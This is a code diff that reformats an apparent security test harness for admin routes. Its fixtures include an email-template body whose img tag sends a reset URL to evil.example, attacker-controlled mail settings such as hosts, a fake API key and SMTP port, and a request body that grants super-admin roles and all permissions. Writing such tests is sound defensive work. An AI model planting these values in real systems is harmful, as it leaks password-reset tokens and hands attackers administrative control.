@@ -143,9 +143,16 @@ function groupsOf(bodies: object[]): object[][] {
 }
 
 function bodiesOf(route: Route): object[] {
-  if (isTemplate(route)) return [{ body: '<img src="https://evil.example/?t={{url}}">' }, { subject: 'evil', body: '<p>{{url}}</p>' }]; // prettier-ignore
+  if (isTemplate(route))
+    return [
+      { body: '<img src="https://evil.example/?t={{url}}">' },
+      { subject: 'evil', body: '<p>{{url}}</p>' },
+    ];
   const scope = /^\/admin\/settings\/(admin|store)$/.exec(route.path)?.[1] as 'admin' | 'store' | undefined;
-  if (scope) return settingsOf(scope).flatMap((setting) => hostileValues(setting).map((value) => ({ [setting.name]: value }))); // prettier-ignore
+  if (scope)
+    return settingsOf(scope).flatMap((setting) =>
+      hostileValues(setting).map((value) => ({ [setting.name]: value })),
+    );
   const body = (sampleBody(route, fixtures.idOf) ?? {}) as object;
   return [body, { ...body, roleIds: [superAdminRole], permissions: [...allPermissions] }];
 }
@@ -156,7 +163,16 @@ const AUTH_TEMPLATE = { eventType: 'auth.reset_password', role: 'customer' };
 
 /** Values of an attacker's own that a setting takes. */
 function hostileValues(setting: Setting<unknown>): unknown[] {
-  const candidates = ['https://evil.example', 'evil.example', '/evil', 'SG.evil', 'mailapi', 'evil@evil.example', true, 2525]; // prettier-ignore
+  const candidates = [
+    'https://evil.example',
+    'evil.example',
+    '/evil',
+    'SG.evil',
+    'mailapi',
+    'evil@evil.example',
+    true,
+    2525,
+  ];
   return candidates.filter((value) => setting.schema.safeParse(value).success).slice(0, 2);
 }
 
